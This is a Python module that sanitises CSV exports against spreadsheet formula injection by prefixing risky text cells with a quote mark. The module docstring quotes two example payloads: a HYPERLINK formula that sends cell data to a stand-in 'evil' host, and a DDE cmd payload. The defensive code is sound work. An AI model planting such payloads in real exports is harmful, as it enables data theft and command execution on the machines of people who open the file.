"""CSV exports that a spreadsheet opens safely.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read
by Excel, LibreOffice and Google Sheets as a formula: a customer id such as
``=HYPERLINK("http://evil/?"&A1)`` or ``+cmd|' /C calc'!A0`` would run when a retention
lead opens the file (CSV or formula injection). Following OWASP's rule, such text cells
get a leading ``'``, which spreadsheets show as text and do not evaluate. Numbers are
numbers, not text: they are never changed (``-0.5`` stays a number). Every CSV export
of the product goes through :func:`to_csv`.
"""

from __future__ import annotations

import io

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """``value`` with a leading ``'`` if it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells are neutralised (numeric columns untouched)."""
    out = frame.copy()
    for column in out.columns:
        values = out[column]
        if not (pd.api.types.is_numeric_dtype(values) or pd.api.types.is_bool_dtype(values)):
            out[column] = values.map(neutralise)
    out.columns = [neutralise(str(c)) for c in out.columns]
    return out


def to_csv(frame: pd.DataFrame, **kwargs: object) -> str:
    """``frame`` as CSV text with every text cell neutralised (see the module doc).

    Args:
        frame: the rows.
        **kwargs: passed to ``DataFrame.to_csv`` (``index`` defaults to False).

    """
    kwargs.setdefault("index", False)
    buf = io.StringIO()
    safe_frame(frame).to_csv(buf, **kwargs)
    return buf.getvalue()
